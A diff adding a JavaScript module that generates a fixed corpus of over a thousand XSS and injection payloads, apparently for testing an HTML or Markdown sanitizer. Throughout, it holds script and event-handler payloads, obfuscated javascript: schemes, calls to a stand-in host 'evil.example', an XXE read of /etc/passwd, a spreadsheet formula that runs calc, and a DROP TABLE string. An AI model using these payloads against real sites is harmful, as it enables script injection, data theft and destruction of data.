@@ -1,0 +1,258 @@
+// Words that would run something if they ever were more than words: what ends a context, joined with what runs in the next.
+
+/** What a payload tries to do; each is noticed in another way. */
+const DEEDS = [
+  "alert(1)",
+  "prompt(1)",
+  "confirm(1)",
+  "print()",
+  "console.log(1)",
+  "hole()",
+  "fetch('//evil.example/f')",
+  "new Image().src='//evil.example/i'",
+  "location='//evil.example/l'",
+  "top.location.hash='x'",
+  "open('//evil.example/o')",
+  "import('//evil.example/m')",
+  "document.write('<b>x')",
+  "history.pushState(1,1,'/x')",
+];
+
+/** What ends the place where words stand. */
+const ENDS = [
+  "",
+  '">',
+  "'>",
+  "</title>",
+  "</script>",
+  "</textarea></style>",
+  "--><!-- -->",
+  "]]>",
+  "&quot;&gt;",
+  "</svg></math>",
+  "`>",
+  "\u2028\u2029",
+  "*/;</noscript>",
+  '\\"}\'>',
+];
+
+/** Elements that run something by themselves. `J` is the deed. */
+const ELEMENTS = [
+  "<script>J</script>",
+  "<script src=//evil.example/s></script>",
+  "<ScRiPt >J</sCrIpT\n>",
+  "<script/x>J</script>",
+  "<script type=module>J</script>",
+  "<script\u000Csrc='data:,J'></script>",
+  "<img src=x onerror=J>",
+  "<img src=x onerror='J'",
+  "<img/src='x'/onerror=J//",
+  "<img src=//evil.example/p.png>",
+  "<img srcset='//evil.example/p.png 1x'>",
+  "<picture><source srcset=//evil.example/p><img></picture>",
+  "<image src=x onerror=J>",
+  "<svg onload=J>",
+  "<svg/onload=J>",
+  "<svg><script>J</script></svg>",
+  "<svg><script href='data:,J' /></svg>",
+  "<svg><animate onbegin=J attributeName=x dur=1s>",
+  "<svg><a xlink:href='javascript:J'><text y=9>x</text></a></svg>",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=J>#x'></svg>",
+  "<svg><style>{font-family:'<img/src=x onerror=J>'</style></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=J>'>",
+  "<math href='javascript:J'>x</math>",
+  "<body onload=J>",
+  "<body onpageshow=J>",
+  "<html onclick=J>",
+  "<iframe src='javascript:J'></iframe>",
+  "<iframe srcdoc='<script>parent.J</script>'></iframe>",
+  "<iframe onload=J></iframe>",
+  "<iframe src=//evil.example></iframe>",
+  "<frameset onload=J>",
+  "<object data='javascript:J'></object>",
+  "<object data=//evil.example/o></object>",
+  "<embed src='javascript:J'>",
+  "<embed src=//evil.example/e>",
+  "<video src=x onerror=J></video>",
+  "<video poster=//evil.example/v autoplay><source onerror=J></video>",
+  "<audio src=x onerror=J></audio>",
+  "<details open ontoggle=J>x</details>",
+  "<input autofocus onfocus=J>",
+  "<input type=image src=//evil.example/b>",
+  "<textarea autofocus onfocus=J></textarea>",
+  "<select autofocus onfocus=J></select>",
+  "<button autofocus onfocus=J>x</button>",
+  "<form action='javascript:J'><input type=submit autofocus></form>",
+  "<form id=x></form><button form=x formaction='javascript:J'>x</button>",
+  "<marquee onstart=J>x</marquee>",
+  "<link rel=stylesheet href=//evil.example/c.css>",
+  "<link rel=prefetch href=//evil.example/n>",
+  "<link rel=import href='data:text/html,J'>",
+  "<meta http-equiv=refresh content='0;url=//evil.example/r'>",
+  "<meta http-equiv=refresh content='0;javascript:J'>",
+  "<meta http-equiv=Content-Security-Policy content=x>",
+  "<base href=//evil.example/>",
+  "<style>@import '//evil.example/c.css';</style>",
+  "<style>*{background:url(//evil.example/b)}</style>",
+  "<p style='background:url(//evil.example/b)'>x",
+  "<x style=animation-name:x onanimationstart=J>",
+  "<x contenteditable autofocus tabindex=1 onfocus=J>x</x>",
+  "<xss onpointerrawupdate=J style=position:fixed;inset:0>x",
+  "<template shadowrootmode=open><script>J</script></template>",
+  "<dialog open onclose=J>x</dialog>",
+  "<isindex action='javascript:J' type=image>",
+  "<noscript><p title='</noscript><img src=x onerror=J>'>",
+  "<!--[if gte IE 4]><script>J</script><![endif]-->",
+  "<!--><img src=x onerror=J>-->",
+  "<!doctype html><script>J</script>",
+  "<?xml version='1.0'?><?xml-stylesheet href='javascript:J'?>",
+  "<%<img src=x onerror=J>%>",
+  "<<script>J//<</script>",
+  "<a href='javascript:J'>x</a>",
+  "<area shape=default href='javascript:J'>",
+  "<div id=content class=masthead name=cookie data-search>x</div>",
+  "<plaintext>",
+];
+
+/** Attributes for whoever forgot a quotation mark. */
+const ATTRIBUTES = [
+  '" onload=J x="',
+  '" autofocus onfocus=J x="',
+  "' autofocus onfocus='J' x='",
+  '" onmouseover="J',
+  "' onclick='J",
+  "` onerror=J x=`",
+  ' onfocus=J autofocus tabindex=0 ',
+  '"onpageshow=J//',
+  '" style="background:url(//evil.example/a)" x="',
+  '" srcdoc="<script>J</script>',
+  '" http-equiv="refresh" content="0;url=//evil.example/r',
+  '0;url=//evil.example/r',
+  "0; url=javascript:J",
+];
+
+/** Schemes, as browsers read them and filters do not. */
+const SCHEMES = [
+  "javascript:J",
+  "JaVaScRiPt:J",
+  " javascript:J",
+  "java\tscript:J",
+  "java\nscript:J",
+  "javascript\r:J",
+  "\u0001javascript:J",
+  "\u00A0javascript:J",
+  "javascript&colon;J",
+  "javascript&#58;J",
+  "javascript&#x3A;J",
+  "&#106;avascript:J",
+  "&#x6A;avascript:J",
+  "&#0000106avascript:J",
+  "java&Tab;script:J",
+  "java&NewLine;script:J",
+  "javascript:%61lert(1)",
+  "javascript://evil.example/%0AJ",
+  "javascript:/*--></title>*/J",
+  "//evil.example/x",
+  "\\\\evil.example\\x",
+  "/\\evil.example/x",
+  "https:evil.example",
+  "vbscript:msgbox(1)",
+  "livescript:J",
+  "data:text/html,<script>J</script>",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "data:image/svg+xml,<svg onload=J>",
+  "blob:https://evil.example/x",
+  "filesystem:http://evil.example/x",
+  "view-source:javascript:J",
+  "file:///etc/passwd",
+  "jar:javascript:J!/",
+  "feed:javascript:J",
+  "about:blank",
+];
+
+/** Where Markdown takes an address. `U` is one. */
+const LINKS = ["[x](U)", "[x](<U>)", "![x](U)", "<U>", "[x]: U\n\n[x]", "[![x](U)](U)", "[x](/a \"U\")", "<a href=\"U\">x</a>"];
+
+/** Marks of Markdown with something in them that wants out. */
+const MARKDOWN = [
+  "[x](y \"\\\" onfocus=J autofocus x=\\\"\")",
+  "![\" onerror=J x=\"](z)",
+  "![x](z \"' onerror=J '\")",
+  "[x](z'onfocus='J)",
+  "```\"><img src=x onerror=J>\nx\n```",
+  "```html onload=J\n<script>J</script>\n```",
+  "~~~ </code></pre><script>J</script>\nx\n~~~",
+  "`</code><script>J</script>`",
+  "    </code></pre><script>J</script>",
+  "| <script>J</script> |\n|---|\n| <img src=x onerror=J> |",
+  "| a |\n|:-\"onload=J:|\n| b |",
+  "# <script>J</script> {#x onload=J}",
+  "- [x] <img src=x onerror=J>\n- <script>J</script>",
+  "[^\"><img src=x onerror=J>]\n\n[^\"><img src=x onerror=J>]: <script>J</script>",
+  "[^content]: x\n\ny[^content]",
+  "<div>\n\n**<script>J</script>**\n\n</div>",
+  "<script>\n\nJ\n\n</script>",
+  "<!--\n\n--><script>J</script>",
+  "<![CDATA[<script>J</script>]]>",
+  "<?php J ?>",
+  "<style>\n*{background:url(//evil.example/s)}\n</style>",
+  "<https://evil.example/<script>J</script>>",
+  "https://example.org/\"onfocus=\"J\"autofocus",
+  "https://example.org/<script>J</script>",
+  "<x@example.org\"onclick=J>",
+  "[a](b)<!-- [c](javascript:J) -->",
+  "**[x](javascript:J)**，**",
+  "[x][<script>J</script>]\n\n[<script>J</script>]: /y",
+  "\\<script>J\\</script>",
+  "&lt;script&gt;J&lt;/script&gt;",
+  "<a\u0000href=javascript:J>x</a>",
+];
+
+/** What other languages would read in it. */
+const LANGUAGES = [
+  "{{ 7 * 7 }}",
+  "{% include \"base.html\" %}",
+  "{% raw %}<script>J</script>{% endraw %}",
+  "{# <script>J</script> #}",
+  "{{ config | safe }}{{ '<script>J</script>' | safe }}",
+  "${J}",
+  "#{J}",
+  "<%= J %>",
+  "[[J]]",
+  "\\u003cscript\\u003eJ\\u003c/script\\u003e",
+  "\\x3cscript\\x3eJ\\x3c/script\\x3e",
+  "\"}</script><script>J</script>",
+  "\",\"x\":\"<script>J</script>",
+  "\"];J;[\"",
+  "');J;('",
+  "\\\");J;//",
+  "%3Cscript%3EJ%3C/script%3E",
+  "%253Cscript%253EJ%253C/script%253E",
+  "\u00EF\u00BB\u00BF<script>J</script>",
+  "\uFEFF<script>J</script>",
+  "\u202E<script>J</script>\u202C",
+  "<\u200Bscript>J</script>",
+  "--- \ntitle: x\n---\n<script>J</script>",
+  "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>J</script>",
+  "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+  "=cmd|' /C calc'!A0",
+  "'; DROP TABLE articles; --",
+];
+
+const WIDE = { "<": "＜", ">": "＞", '"': "＂", "'": "＇", "(": "（", ")": "）", "/": "／", "=": "＝" };
+/** In full width, which folding turns back into ASCII. */
+const wide = (text) => text.replace(/[<>"'()/=]/g, (c) => WIDE[c]);
+
+/** All payloads, the same in every run: over a thousand, no two alike. */
+export function payloads() {
+  const made = [];
+  for (const element of ELEMENTS) {
+    for (const end of ENDS) made.push(end + element);
+    made.push(wide(element), element.replaceAll("<", "&lt;").replaceAll(">", "&gt;"));
+  }
+  made.push(...ATTRIBUTES, ...SCHEMES, ...MARKDOWN, ...LANGUAGES);
+  for (const scheme of SCHEMES) made.push(LINKS[made.length % LINKS.length].replaceAll("U", scheme));
+  for (const link of LINKS) made.push(link.replaceAll("U", SCHEMES[0]), link.replaceAll("U", SCHEMES[7]), link.replaceAll("U", SCHEMES[24]));
+  const done = made.map((text, n) => text.replaceAll("J", DEEDS[n % DEEDS.length]));
+  return [...new Set(done)];
+}
